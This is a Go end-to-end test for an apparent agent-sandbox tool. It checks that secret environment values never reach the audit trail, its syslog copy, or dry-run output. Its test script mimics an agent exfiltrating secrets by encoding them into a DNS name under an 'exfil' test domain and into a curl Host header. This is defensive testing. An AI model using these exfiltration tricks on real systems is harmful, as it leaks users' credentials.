//go:build linux

// End-to-end tests of issue 10, class 8 (part two): the trail carries no
// secret values and cannot be used to fill the host's disk.
package tests

import (
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
)

// syslogCapture listens on a unixgram socket and keeps every datagram.
type syslogCapture struct {
	path string
	mu   sync.Mutex
	msgs []string
}

func newSyslogCapture(t *testing.T) *syslogCapture {
	t.Helper()
	s := &syslogCapture{path: filepath.Join(auditDir(t), "log.sock")}
	pc, err := net.ListenUnixgram("unixgram", &net.UnixAddr{Name: s.path, Net: "unixgram"})
	if err != nil {
		t.Fatal(err)
	}
	os.Chmod(s.path, 0o777)
	pc.SetReadBuffer(8 << 20)
	go func() {
		buf := make([]byte, 1<<20)
		for {
			n, err := pc.Read(buf)
			if err != nil {
				return
			}
			s.mu.Lock()
			s.msgs = append(s.msgs, string(buf[:n]))
			s.mu.Unlock()
		}
	}()
	t.Cleanup(func() { pc.Close() })
	return s
}

func (s *syslogCapture) all() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return strings.Join(s.msgs, "\n")
}

// The values of --setenv and --env variables never reach the trail or its
// syslog copy, wherever the agent puts them (argv, an exec'd path, its cwd,
// a DNS name, an HTTP Host, a guard-rail refusal), nor --dry-run's output;
// their names do.
func TestTrailNoEnvValues(t *testing.T) {
	const setVal = "S3t-Value-of-SECRET_SET-91q"
	const passVal = "P4ss-Value-of-PASSED-37z"
	values := []string{setVal, passVal, strings.ToLower(setVal), strings.ToLower(passVal)}
	home := auditDir(t)
	env := []string{"HOME=" + home, "XDG_STATE_HOME=" + filepath.Join(home, "state"), "PASSED_TOKEN=" + passVal}
	flags := []string{"--setenv", "SECRET_SET=" + setVal, "--env", "PASSED_TOKEN",
		"--allow-domain", netAPI, "--add-host", netAPI + ":127.0.0.1", "--block-command", "blocked-cmd"}

	// --dry-run prints names only.
	r := run(t, runOpts{env: env}, append(append([]string{"--dry-run"}, flags...), "--", "/bin/true")...)
	mustCode(t, r, 0)
	for _, v := range values {
		if strings.Contains(r.stdout+r.stderr, v) {
			t.Errorf("--dry-run printed the value %q:\n%s", v, r.stdout)
		}
	}
	if !strings.Contains(r.stdout, "SECRET_SET") || !strings.Contains(r.stdout, "PASSED_TOKEN") {
		t.Errorf("--dry-run does not list the variables by name:\n%s", r.stdout)
	}

	syslog := newSyslogCapture(t)
	trail := filepath.Join(auditDir(t), "env.jsonl")
	script := `/bin/echo "$SECRET_SET" "x$PASSED_TOKEN"
mkdir -p "$PWD/d-$SECRET_SET" && cd "$PWD/d-$SECRET_SET" && /bin/true in-cwd && cd ..
cp /bin/true "./bin-$PASSED_TOKEN" && "./bin-$PASSED_TOKEN"
b=blocked; /bin/echo "$b-cmd" "$SECRET_SET"
getent hosts "$SECRET_SET.exfil.jailtest.example"
/usr/bin/curl -sS --noproxy '*' --max-time 5 -H "Host: $PASSED_TOKEN.example" http://` + netAPI + `:9/
exit 0`
	args := append(append([]string{}, flags...), "--audit", trail, "--audit-syslog", "--", "/bin/sh", "-c", script)
	r = runLaunched(t, nsLaunch{Syslog: syslog.path}, runOpts{env: env}, args...)
	mustCode(t, r, 0)
	evs := auditLoad(t, trail)
	data := string(mustRead(t, trail))
	// Control: every way the agent used a value did produce an event.
	for _, want := range []string{`"type":"exec"`, `"layer":"guard-rail"`, `"type":"dns"`, `"type":"net"`, `"in-cwd"`} {
		if !strings.Contains(data, want) {
			t.Errorf("control: the trail has no %s; the test proves nothing:\n%s", want, auditDump(evs))
		}
	}
	deadline := time.Now().Add(5 * time.Second)
	for !strings.Contains(syslog.all(), `"type":"exit"`) && time.Now().Before(deadline) {
		time.Sleep(20 * time.Millisecond)
	}
	logged := syslog.all()
	if !strings.Contains(logged, `"type":"start"`) || !strings.Contains(logged, `"type":"exit"`) {
		t.Fatalf("control: the syslog copy was not captured (%d bytes); stderr:\n%s", len(logged), r.stderr)
	}
	for _, v := range values {
		if strings.Contains(data, v) {
			for _, e := range evs {
				if strings.Contains(string(e.Raw), v) {
					t.Errorf("ATTACK WORKED: the value %q is in the trail: %.400s", v, e.Raw)
				}
			}
		}
		if strings.Contains(logged, v) {
			t.Errorf("ATTACK WORKED: the value %q is in the syslog copy", v)
		}
	}
	start := string(evs[0].Raw)
	for _, name := range []string{"SECRET_SET", "PASSED_TOKEN"} {
		if !strings.Contains(start, name) {
			t.Errorf("the start event does not name %s: %.600s", name, start)
		}
	}
	if !strings.Contains(data, "[redacted $SECRET_SET]") {
		t.Errorf("the exec events do not show where the value was redacted:\n%s", auditDump(auditOf(evs, "exec")))
	}
}
